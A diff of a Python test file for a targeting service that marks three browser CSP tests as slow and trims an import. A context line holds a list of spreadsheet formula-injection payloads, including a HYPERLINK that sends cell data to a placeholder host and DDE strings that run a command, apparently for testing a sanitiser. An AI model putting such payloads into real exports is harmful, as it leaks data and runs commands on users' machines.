@@ -34,7 +34,7 @@ from features.load import Warehouse
 from serving.security import RedactSecrets, redact
 from serving.target import TargetList, TargetingError, check_request, csv_text, save_target_list, spreadsheet_safe
 from serving.tokens import Role
-from tests.test_api import AS_OF, _campaign, auth, client, read, world  # noqa: F401  (fixtures)
+from tests.test_api import _campaign, auth, client, read, world  # noqa: F401  (fixtures)
 
 ROOT = Path(__file__).resolve().parents[1]
 NASTY = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -461,6 +461,7 @@ def _new_page(browser, base: str):
     return context, page, Watch(page, base)
 
 
+@pytest.mark.slow
 def test_the_watch_sees_a_csp_violation(server, browser) -> None:
     """The detector below can fail: an inline script on the page is refused and reported."""
     base, _world = server
@@ -478,6 +479,7 @@ def test_the_watch_sees_a_csp_violation(server, browser) -> None:
         context.close()
 
 
+@pytest.mark.slow
 def test_docs_work_offline_in_chromium_without_csp_violations(server, browser, tmp_path: Path) -> None:
     base, world = server
     context, page, watch = _new_page(browser, base)
@@ -505,6 +507,7 @@ def test_docs_work_offline_in_chromium_without_csp_violations(server, browser, t
         context.close()
 
 
+@pytest.mark.slow
 def test_web_page_works_under_its_csp(server, browser) -> None:
     """Sign in, build a list and download it (marketer); reasons, model card in its frame, lineage (auditor)."""
     base, world = server
